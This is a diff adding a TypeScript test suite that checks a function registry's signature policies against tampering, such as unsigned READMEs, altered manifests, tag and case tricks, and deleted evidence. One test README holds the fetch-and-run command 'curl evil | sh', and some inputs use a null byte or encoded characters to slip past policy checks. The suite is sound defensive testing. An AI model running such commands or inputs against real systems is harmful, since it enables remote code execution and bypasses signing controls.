@@ -1,0 +1,358 @@
+import {
+  bundleManifest,
+  digestOf,
+  MEDIA_TYPES,
+  type OciDigest,
+  readManifest,
+  releaseFiles,
+  releaseManifest,
+  VERSION,
+} from '@krmhub/oci';
+import { sha256 } from '@krmhub/schema';
+import { releaseStatement, type Statement, signatureStatement } from '@krmhub/signing';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { definitionArtifact, digestOfManifest, testClient } from '../testing/oci.js';
+import { newKey, policy, signedBy } from '../testing/signing.js';
+import {
+  definitionText,
+  openTestRegistry,
+  releasePath,
+  type TestRegistry,
+} from '../testing/test-registry.js';
+
+/** What somebody with a token, and sometimes with a key, tries to get round signatures. */
+
+let registry: TestRegistry;
+let authorization: string;
+const client = testClient(
+  () => registry,
+  () => authorization,
+);
+beforeEach(async () => {
+  registry = await openTestRegistry();
+  authorization = `Bearer ${(await registry.token({})).secret}`;
+});
+afterEach(() => registry.close());
+
+const KIND = 'SetLabels';
+const REPOSITORY = 'functions/example.com/setlabels';
+
+function statementOf(
+  release: string,
+  { kind = KIND, readme }: { kind?: string; readme?: string } = {},
+): Statement {
+  const bytes = Buffer.from(definitionText({ kind, release }));
+  const definition = sha256(bytes);
+  const files = releaseFiles({
+    definition: { digest: definition, size: bytes.byteLength, mediaType: 'application/yaml' },
+    readme: readme === undefined ? undefined : { digest: digestOf(Buffer.from(readme)), size: readme.length },
+  });
+  const manifest = digestOf(releaseManifest(release, files));
+  return releaseStatement({ group: 'example.com', kind, release }, { definition, manifest });
+}
+
+async function apply(text: string): Promise<Record<string, unknown>> {
+  const answer = await registry.request('/api/v1/policies', {
+    method: 'PUT',
+    body: text,
+    headers: { 'Content-Type': 'application/yaml', Authorization: authorization },
+  });
+  const body = (await answer.json()) as Record<string, unknown>;
+  expect(answer.status, JSON.stringify(body)).toBe(200);
+  return body;
+}
+
+async function publish(release: string, bundles: readonly Uint8Array[] = [], readme?: string, kind = KIND) {
+  const body = new FormData();
+  body.append(
+    'definition',
+    new Blob([definitionText({ kind, release })], { type: 'application/yaml' }),
+    'd.yaml',
+  );
+  if (readme !== undefined) body.append('readme', new Blob([readme], { type: 'text/markdown' }), 'README.md');
+  for (const bundle of bundles) body.append('bundle', new Blob([new Uint8Array(bundle)]), 'bundle.json');
+  const answer = await registry.request(releasePath({ kind, release }), {
+    method: 'PUT',
+    body,
+    headers: { Authorization: authorization },
+  });
+  return { status: answer.status, body: (await answer.json()) as { code?: string; detail?: string } };
+}
+
+async function attach(release: string, bundle: Uint8Array) {
+  const answer = await registry.request(`${releasePath({ kind: KIND, release })}/bundles`, {
+    method: 'POST',
+    body: new Uint8Array(bundle),
+    headers: { 'Content-Type': 'application/json', Authorization: authorization },
+  });
+  return { status: answer.status, body: (await answer.json()) as Record<string, unknown> };
+}
+
+async function verdict(release: string) {
+  const answer = await registry.request(`${releasePath({ kind: KIND, release })}/bundles`);
+  return (await answer.json()) as {
+    bundles: { digest: string; manifest: string; signer?: unknown }[];
+    signature: { trusted: boolean; reason?: string };
+  };
+}
+
+async function pushBundle(bundle: Uint8Array, subject: OciDigest): Promise<OciDigest> {
+  await client.blob(REPOSITORY, '{}');
+  await client.blob(REPOSITORY, Buffer.from(bundle).toString('utf8'));
+  const manifest = bundleManifest({
+    subject: { mediaType: MEDIA_TYPES.image, digest: subject, size: 1000 },
+    bundle: { digest: digestOf(bundle), size: bundle.byteLength },
+    predicateType: 'https://example.com/',
+    created: '2030-01-02T03:04:05Z',
+  });
+  await client.put(REPOSITORY, manifest.digest, Buffer.from(manifest.bytes).toString('utf8'), {
+    type: MEDIA_TYPES.image,
+  });
+  return manifest.digest;
+}
+
+describe('who may publish, and means harm', () => {
+  it('a policy that comes to cover a group recognises keys that other policies named before', async () => {
+    const key = newKey();
+    expect((await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))])).status).toBe(201);
+    await apply(policy([key], { groups: ['other.example.com'] }));
+    await apply(policy([key], { groups: ['other.example.com', 'example.com'] }));
+    expect((await verdict('1.0.0')).signature).toMatchObject({ trusted: true });
+  });
+
+  it('adding the same bundle again mends that', async () => {
+    const key = newKey();
+    const bundle = await signedBy(key, statementOf('1.0.0'));
+    await publish('1.0.0', [bundle]);
+    await apply(policy([key], { groups: ['other.example.com'] }));
+    await apply(policy([key], { groups: ['other.example.com', 'example.com'] }));
+    await attach('1.0.0', bundle);
+    expect((await verdict('1.0.0')).signature).toMatchObject({ trusted: true });
+  });
+
+  it('who has a token and no key cannot keep a release from being signed again', {
+    timeout: 60_000,
+  }, async () => {
+    const [stolen, fresh] = [newKey(), newKey()];
+    await apply(policy([stolen, fresh]));
+    const bundle = await signedBy(stolen, statementOf('1.0.0'));
+    await publish('1.0.0', [bundle]);
+    for (let at = 1; at < 64; at++) await attach('1.0.0', Buffer.concat([bundle, Buffer.alloc(at, ' ')]));
+    const last = await attach('1.0.0', await signedBy(fresh, statementOf('1.0.0')));
+    expect(last.body).toMatchObject({ signature: { trusted: true } });
+    expect(last.status).toBe(200);
+  });
+
+  it('a signed function is not unsigned', async () => {
+    const key = newKey();
+    await apply(policy([key], { groups: ['other.example.com'] }));
+    await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    expect((await publish('1.1.0')).status).toBe(422);
+  });
+
+  it('a revoked key signs nothing more, also where no policy covers the release', async () => {
+    const key = newKey();
+    await apply(policy([key], { releases: '>=1.0.0' }));
+    await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    await apply(policy([key], { releases: '>=1.0.0', signer: 'revoked: stolen' }));
+    expect((await publish('0.9.0', [await signedBy(key, statementOf('0.9.0'))])).status).not.toBe(201);
+  });
+
+  it('a README that the publisher has not signed does not come with the signature', async () => {
+    const key = newKey();
+    await apply(policy([key]));
+    const bundle = await signedBy(key, statementOf('1.0.0', { readme: '# good' }));
+    expect((await publish('1.0.0', [bundle], '# run: curl evil | sh')).status).not.toBe(201);
+  });
+
+  it('a manifest that the publisher has not signed is not published under the signature', async () => {
+    const key = newKey();
+    await apply(policy([key]));
+    const text = definitionText({ kind: KIND, release: '1.0.0' });
+    const evil = JSON.parse(
+      JSON.stringify(
+        definitionArtifact(text, {
+          annotations: { [VERSION]: '1.0.0', 'org.opencontainers.image.source': 'https://evil.example' },
+        }),
+      ),
+    );
+    const extra = 'a script of the attacker';
+    evil.layers.push({
+      mediaType: 'application/x-sh',
+      digest: digestOf(Buffer.from(extra)),
+      size: extra.length,
+    });
+    await client.blob(REPOSITORY, '{}');
+    await client.blob(REPOSITORY, text);
+    await client.blob(REPOSITORY, extra);
+    await client.put(REPOSITORY, digestOfManifest(evil), evil);
+    await pushBundle(await signedBy(key, statementOf('1.0.0')), digestOfManifest(evil));
+    const answer = await client.put(REPOSITORY, '1.0.0', evil);
+    expect([answer.status, answer.status === 201 ? (await verdict('1.0.0')).signature : '']).not.toEqual([
+      201,
+      expect.objectContaining({ trusted: true }),
+    ]);
+  });
+
+  it('bundles of a manifest with two tags', async () => {
+    const key = newKey();
+    const text = definitionText({ kind: KIND, release: '1.0.0' });
+    const manifest = definitionArtifact(text, {});
+    await client.blob(REPOSITORY, '{}');
+    await client.blob(REPOSITORY, text);
+    expect((await client.put(REPOSITORY, '1.0.0', manifest)).status).toBe(201);
+    expect((await client.put(REPOSITORY, '1.0.1', manifest)).status).toBe(201);
+    const claim = releaseStatement(
+      { group: 'example.com', kind: KIND, release: '1.0.1' },
+      { definition: sha256(text), manifest: digestOfManifest(manifest) },
+    );
+    await pushBundle(await signedBy(key, claim), digestOfManifest(manifest));
+    expect((await verdict('1.0.1')).bundles).toHaveLength(1);
+  });
+
+  it('spellings, cases and pre-releases do not get round a policy', async () => {
+    const key = newKey();
+    await apply(policy([key]));
+    const out: unknown[] = [];
+    for (const release of [
+      'v1.0',
+      '1',
+      '1.0.0-rc.1',
+      '99999999999999999999.0.0',
+      '01.0.0',
+      '1.0.0%2Bbuild',
+    ]) {
+      for (const group of ['example.com', 'Example.com', 'example.com.', 'example.com%00']) {
+        const text = definitionText({ kind: KIND, release: '1.0.0' });
+        const answer = await registry.request(`/api/v1/functions/${group}/${KIND}/releases/${release}`, {
+          method: 'PUT',
+          body: text,
+          headers: { 'Content-Type': 'application/yaml', Authorization: authorization },
+        });
+        out.push([release, group, answer.status]);
+      }
+    }
+    expect(out.filter((one) => (one as [string, string, number])[2] === 201)).toEqual([]);
+    const text = definitionText({ kind: KIND, release: '1.0.0' });
+    for (const kind of ['setlabels', 'SetLabels', 'SETLABELS'])
+      for (const tag of ['1.0.0', 'v1.0.0', 'v1', '1', 'latest', '1.0.0-rc.1']) {
+        const repository = `functions/example.com/${kind}`;
+        const manifest = definitionArtifact(text, { annotations: { [VERSION]: tag } });
+        await client.blob(repository, '{}').catch(() => {});
+        await client.blob(repository, text).catch(() => {});
+        const a = await client.put(repository, tag, manifest);
+        const b = await client.put(repository, `${digestOfManifest(manifest)}?tag=${tag}`, manifest);
+        const index = { schemaVersion: 2, mediaType: MEDIA_TYPES.index, manifests: [] };
+        const c = await client.put(repository, tag, index);
+        expect(
+          [a.status, b.status, c.status].every((one) => one >= 400),
+          `${kind} ${tag} ${a.status} ${b.status} ${c.status}`,
+        ).toBe(true);
+      }
+  });
+
+  it('evidence stays: untagged collection, deletes, blobs', async () => {
+    const key = newKey();
+    await apply(policy([key]));
+    await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    const { bundles } = await verdict('1.0.0');
+    (registry.parts.config as { untaggedDays?: number }).untaggedDays = 1;
+    registry.advance(10 * 86_400_000);
+    await registry.parts.collector.collect();
+    const bytes = await registry.request(
+      `${releasePath({ kind: KIND, release: '1.0.0' })}/bundles/${bundles[0]!.digest}`,
+    );
+    expect(bytes.status).toBe(200);
+    expect(
+      (await client.ask('DELETE', `${REPOSITORY}/blobs/${bundles[0]!.digest}`)).status,
+    ).toBeGreaterThanOrEqual(400);
+    expect(
+      (await client.ask('DELETE', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status,
+    ).toBeGreaterThanOrEqual(400);
+    expect((await client.ask('DELETE', `${REPOSITORY}/manifests/1.0.0`)).status).toBeGreaterThanOrEqual(400);
+    // An alias tag on the evidence, then delete by tag
+    const alias = `sha256-${bundles[0]!.manifest.slice(7)}`;
+    const stored = await client.ask('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`);
+    const text = await stored.text();
+    await client.put(REPOSITORY, alias, text, { type: MEDIA_TYPES.image });
+    await client.ask('DELETE', `${REPOSITORY}/manifests/${alias}`);
+    expect((await client.ask('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status).toBe(200);
+    void readManifest;
+  });
+
+  it('a bundle that is deleted while its release is published is missed', async () => {
+    const key = newKey();
+    await apply(policy([key]));
+    const text = definitionText({ kind: KIND, release: '1.0.0' });
+    const manifest = definitionArtifact(text, { annotations: { [VERSION]: '1.0.0' } });
+    await client.blob(REPOSITORY, '{}');
+    await client.blob(REPOSITORY, text);
+    await client.put(REPOSITORY, digestOfManifest(manifest), manifest);
+    const held = await pushBundle(
+      await signedBy(
+        key,
+        releaseStatement(
+          { group: 'example.com', kind: KIND, release: '1.0.0' },
+          { definition: sha256(text), manifest: digestOfManifest(manifest) },
+        ),
+      ),
+      digestOfManifest(manifest),
+    );
+    const { turns } = registry.parts;
+    const take = turns.take.bind(turns);
+    let first = true;
+    // The publish has read the bundles, and waits for its turn behind a delete.
+    turns.take = async (thing, work) => {
+      if (first && thing.startsWith('example.com/')) {
+        first = false;
+        expect((await client.ask('DELETE', `${REPOSITORY}/manifests/${held}`)).status).toBe(202);
+      }
+      return take(thing, work);
+    };
+    const answer = await client.put(REPOSITORY, '1.0.0', manifest);
+    if (answer.status === 201) {
+      const { bundles, signature } = await verdict('1.0.0');
+      expect(signature.trusted).toBe(true);
+      expect((await client.ask('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status).toBe(200);
+    }
+  });
+
+  it('a signature that comes with what is published already is kept, or refused, and not dropped', async () => {
+    const key = newKey();
+    expect((await publish('1.0.0')).status).toBe(201);
+    const again = await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    expect([again.status, (await verdict('1.0.0')).bundles.length]).not.toEqual([200, 0]);
+  });
+
+  it('bundles that are attached count against the quota of the repository', async () => {
+    const key = newKey();
+    expect((await publish('1.0.0')).status).toBe(201);
+    (registry.parts.config as Record<string, unknown>).repositoryMebibytes = 2;
+    let kept = 0;
+    for (let at = 0; at < 5; at++) {
+      const bundle = await signedBy(key, {
+        ...statementOf('1.0.0'),
+        predicateType: `https://x/${at}`,
+        predicate: { text: 'x'.repeat(700_000) },
+      });
+      if ((await attach('1.0.0', bundle)).status === 200) kept += 1;
+    }
+    expect(kept).toBeLessThan(5);
+  });
+
+  it('policies want an administrator of everything', async () => {
+    for (const wanted of [
+      { scopes: ['publish', 'yank', 'push'] as const },
+      { scopes: ['admin'] as const, groups: ['example.com'] },
+    ]) {
+      const { secret } = await registry.token({ ...wanted, scopes: [...wanted.scopes] });
+      const answer = await registry.request('/api/v1/policies', {
+        method: 'PUT',
+        body: '',
+        headers: { 'Content-Type': 'application/yaml', Authorization: `Bearer ${secret}` },
+      });
+      expect(answer.status).toBe(403);
+    }
+    void signatureStatement;
+  });
+});
